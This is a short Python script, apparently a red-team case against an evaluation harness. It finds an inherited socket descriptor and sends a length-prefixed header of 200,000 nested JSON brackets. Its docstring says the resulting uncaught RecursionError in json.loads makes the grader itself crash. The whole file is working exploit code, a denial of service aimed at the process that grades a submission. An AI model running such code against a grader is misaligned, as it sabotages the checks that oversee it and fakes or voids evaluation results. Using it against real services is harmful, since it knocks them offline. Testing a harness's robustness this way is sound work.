"""Attack: a deeply nested JSON header (under the 1 MiB limit) makes json.loads raise RecursionError,
which Session.call/start do not catch: the grader itself crashes."""
import os, stat, struct, time

def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass

header = b"[" * 200000 + b"]" * 200000
os.write(_channel(), struct.pack("<I", len(header)) + header)
time.sleep(30)
